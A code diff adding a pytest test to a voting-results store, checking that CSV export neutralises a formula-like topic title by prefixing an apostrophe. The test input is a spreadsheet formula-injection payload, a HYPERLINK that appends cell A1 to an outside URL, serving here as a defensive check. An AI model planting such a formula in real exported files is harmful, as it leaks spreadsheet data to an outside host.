@@ -8,6 +8,8 @@ import io
 
 import pytest
 
+from pipeline.core.cells import unescape_cell
+from pipeline.core.fileio import OutputError
 from store import (
     ConflictError,
     DataError,
@@ -197,3 +199,20 @@ def test_every_vote_change_is_in_the_audit_log(store, compound, planner):
     assert [e.action for e in reversed(list_audit(store, compound_id=compound))] == [
         "session.open", "topic.add", "topic.add", "ballot.cast", "topic.merge", "session.close",
     ]  # fmt: skip
+
+
+FORMULA_TITLE = '=HYPERLINK("http://x"&A1,"幼儿园")'
+
+
+@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
+def test_a_formula_like_title_stays_text(store, compound, planner, tmp_path):
+    vote = open_session(store, compound, planner, "s", dots=3, ballot_mode="anonymous")
+    topic = add_topic(store, vote.id, planner, FORMULA_TITLE).id
+    cast_ballot(store, vote.id, resident(), {topic: 3})
+    results = close_session(store, vote.id, planner)
+    text = results_to_csv(results, tmp_path / "results.csv")
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["title"] == "'" + FORMULA_TITLE and unescape_cell(row["title"]) == FORMULA_TITLE
+    assert (tmp_path / "results.csv").read_bytes().decode("utf-8-sig") == text
+    with pytest.raises(OutputError, match="is a folder"):
+        results_to_csv(results, tmp_path)
